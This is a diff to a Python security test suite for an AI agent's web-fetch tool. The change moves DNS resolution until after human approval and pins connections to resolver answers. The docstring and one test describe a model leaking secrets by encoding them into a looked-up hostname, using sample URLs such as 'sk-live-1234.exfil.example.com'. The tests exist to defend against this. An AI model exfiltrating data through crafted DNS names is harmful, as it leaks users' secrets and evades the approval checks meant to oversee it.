@@ -1,8 +1,14 @@
-"""Clause: URL and redirect policy is evaluated before approval.
+"""Clause: the URL's pure checks run before approval, and nothing reaches the network before it.
 
-"URL and redirect policy is evaluated before approval, so the prompt shows
-the validated target and a refused URL never reaches a person." The
-``web.extract`` effect runs with policy ``ask`` through the real
+"Pure Host checks (... URL/redirect ...) ... approval ... No file mutation,
+subprocess, network or tool import happens before the capability and
+approval checks pass." A refused URL (scheme, credentials, port, a literal
+private address) is ``denied`` before a person is asked, and the prompt
+shows the checked origin. The name is resolved only after the approval: a
+DNS lookup already reaches whoever serves the name, and a model can spell
+what it read into one (``<secret>.evil.example``). Every answer is then
+checked (a private one is ``denied``) and the connection pinned to them.
+The ``web.extract`` effect runs with policy ``ask`` through the real
 EffectRuntime; DNS is the scripted resolver of ``tests/security/test_ssrf.py``
 and the only server is a real loopback one.
 """
@@ -124,7 +130,36 @@ async def test_refused_url_is_denied_before_approval_and_never_reaches_a_person(
     assert resolver.calls == []  # every one of these is refused without asking DNS
 
 
-async def test_name_resolving_to_a_private_address_is_refused_before_approval(
+@pytest.mark.parametrize("decision", ["deny", "approve_once"])
+async def test_no_name_is_resolved_before_the_approval(
+    authority: AuthorityResolver, decision: ApprovalDecision
+) -> None:
+    """A denied call never asks DNS: the name the model chose reaches no one."""
+    approver, network = Approver(decision), NoNetwork()
+    resolver = FakeResolver({})
+    looked_up_when_asked: list[list[str]] = []
+
+    async def decide(request: ApprovalRequest) -> ApprovalDecision:
+        looked_up_when_asked.append(list(resolver.calls))
+        return await Approver.decide(approver, request)
+
+    approver.decide = decide  # type: ignore[method-assign]
+    async with asking(
+        await web_context(authority), UrlPolicy(resolver=resolver), network, approver
+    ) as run:
+        result = await run("https://sk-live-1234.exfil.example.com/")
+    assert looked_up_when_asked == [[]]
+    assert dict(approver.seen[0].view["target"]) == {
+        "origin": "https://sk-live-1234.exfil.example.com:443"
+    }
+    if decision == "deny":
+        assert (result.status, resolver.calls) == ("denied", [])
+    else:
+        assert resolver.calls == ["sk-live-1234.exfil.example.com"]
+    assert network.attempts == 0
+
+
+async def test_name_resolving_to_a_private_address_is_denied_after_approval(
     authority: AuthorityResolver,
 ) -> None:
     approver, network = Approver(), NoNetwork()
@@ -134,15 +169,15 @@ async def test_name_resolving_to_a_private_address_is_refused_before_approval(
         await web_context(authority), UrlPolicy(resolver=resolver), network, approver
     ) as run:
         result = await run("https://intranet.example.com/payroll?token=abc")
-    assert (result.status, result.started) == ("denied", False)
+    assert result.status == "denied"
     assert result.error is not None
     assert "private" in result.error
-    assert approver.seen == []
+    assert len(approver.seen) == 1
     assert network.attempts == 0
     assert resolver.calls == ["intranet.example.com"]
 
 
-async def test_unresolvable_name_fails_before_approval(authority: AuthorityResolver) -> None:
+async def test_unresolvable_name_fails_after_approval(authority: AuthorityResolver) -> None:
     async def no_such_name(host: str, port: int) -> Sequence[str]:
         raise OSError("Name or service not known")
 
@@ -151,12 +186,31 @@ async def test_unresolvable_name_fails_before_approval(authority: AuthorityResol
         await web_context(authority), UrlPolicy(resolver=no_such_name), network, approver
     ) as run:
         result = await run("https://nowhere.example.com/")
-    assert (result.status, result.started) == ("failed", False)
-    assert approver.seen == []
+    assert result.status == "failed"
+    assert len(approver.seen) == 1
     assert network.attempts == 0
 
 
-async def test_allowed_url_prompt_shows_the_validated_origin_and_addresses(
+async def test_a_literal_address_is_checked_and_shown_before_approval(
+    authority: AuthorityResolver,
+) -> None:
+    async with serve_wire() as server:
+        server.script(text_reply(ARTICLE, content_type="text/html; charset=utf-8"))
+        approver, network = Approver(), Pinned()
+        policy = UrlPolicy(resolver=FakeResolver({}), allow_private=frozenset({"127.0.0.1"}))
+        url = f"http://127.0.0.1:{server.port}/owls?key=s3cret"
+        async with asking(await web_context(authority), policy, network, approver) as run:
+            result = await run(url)
+    assert result.status == "succeeded", result.error
+    (request,) = approver.seen
+    assert dict(request.view["target"]) == {
+        "origin": f"http://127.0.0.1:{server.port}",
+        "addresses": ("127.0.0.1",),
+    }
+    assert "s3cret" not in repr(request.view["target"])
+
+
+async def test_an_approved_name_is_resolved_once_and_the_fetch_pinned_to_its_answer(
     authority: AuthorityResolver,
 ) -> None:
     async with serve_wire() as server:
@@ -170,13 +224,9 @@ async def test_allowed_url_prompt_shows_the_validated_origin_and_addresses(
 
     assert result.status == "succeeded", result.error
     (request,) = approver.seen
-    assert dict(request.view["target"]) == {
-        "origin": f"http://owls.example.com:{server.port}",
-        "addresses": ("127.0.0.1",),
-    }
+    assert dict(request.view["target"]) == {"origin": f"http://owls.example.com:{server.port}"}
     assert "s3cret" not in repr(request.view["target"])
-    # The fetch went to exactly the address the approver saw: DNS was asked once, before
-    # approval, and its second (rebinding) answer was never consulted.
+    # DNS was asked once, after approval, and its second (rebinding) answer never consulted.
     assert resolver.calls == ["owls.example.com"]
     assert network.addresses == ["127.0.0.1"]
     assert "snowy owl" in result.views.model
